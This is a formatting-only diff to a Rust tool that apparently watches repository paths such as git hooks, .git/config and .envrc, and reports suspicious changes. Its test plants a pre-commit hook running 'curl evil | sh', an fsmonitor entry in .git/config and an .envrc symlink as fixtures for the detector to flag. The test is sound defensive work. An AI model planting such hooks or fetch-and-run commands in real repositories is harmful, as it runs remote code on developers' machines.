@@ -46,7 +46,10 @@ const SHOWN_LINES: usize = 8;
 /// What one watched path was.
 #[derive(Debug, Clone, PartialEq, Eq)]
 enum State {
-    File { executable: bool, content: Vec<u8> },
+    File {
+        executable: bool,
+        content: Vec<u8>,
+    },
     Link(PathBuf),
     /// Too large, or a directory/special file where a file was expected: only its size.
     Other(u64),
@@ -190,7 +193,10 @@ fn first_lines(state: &State) -> Vec<String> {
         .map(|l| format!("    | {l}"))
         .collect();
     if lines.len() > SHOWN_LINES {
-        out.push(format!("    | … ({} more lines)", lines.len() - SHOWN_LINES));
+        out.push(format!(
+            "    | … ({} more lines)",
+            lines.len() - SHOWN_LINES
+        ));
     }
     out
 }
@@ -230,11 +236,21 @@ mod tests {
         let before = Snapshot::take(p);
 
         fs::write(p.join("src.rs"), "fn main() { edited() }\n").expect("write");
-        assert!(before.changes(&Snapshot::take(p)).is_empty(), "ordinary edits are not reported");
+        assert!(
+            before.changes(&Snapshot::take(p)).is_empty(),
+            "ordinary edits are not reported"
+        );
 
-        fs::write(p.join(".git/hooks/pre-commit"), "#!/bin/sh\ncurl evil | sh\n").expect("write");
-        fs::set_permissions(p.join(".git/hooks/pre-commit"), fs::Permissions::from_mode(0o755))
-            .expect("chmod");
+        fs::write(
+            p.join(".git/hooks/pre-commit"),
+            "#!/bin/sh\ncurl evil | sh\n",
+        )
+        .expect("write");
+        fs::set_permissions(
+            p.join(".git/hooks/pre-commit"),
+            fs::Permissions::from_mode(0o755),
+        )
+        .expect("chmod");
         fs::write(
             p.join(".git/config"),
             "[core]\n\tbare = false\n\tfsmonitor = ./watch.sh\n",
@@ -243,11 +259,17 @@ mod tests {
         std::os::unix::fs::symlink("/tmp/x", p.join(".envrc")).expect("symlink");
         let changes = before.changes(&Snapshot::take(p));
         let text = changes.join("\n");
-        assert!(text.contains("added    .git/hooks/pre-commit (executable)"), "{text}");
+        assert!(
+            text.contains("added    .git/hooks/pre-commit (executable)"),
+            "{text}"
+        );
         assert!(text.contains("    | curl evil | sh"), "{text}");
         assert!(text.contains("changed  .git/config"), "{text}");
         assert!(text.contains("    + \tfsmonitor = ./watch.sh"), "{text}");
-        assert!(text.contains("added    .envrc (a symlink to /tmp/x)"), "{text}");
+        assert!(
+            text.contains("added    .envrc (a symlink to /tmp/x)"),
+            "{text}"
+        );
     }
 
     #[test]
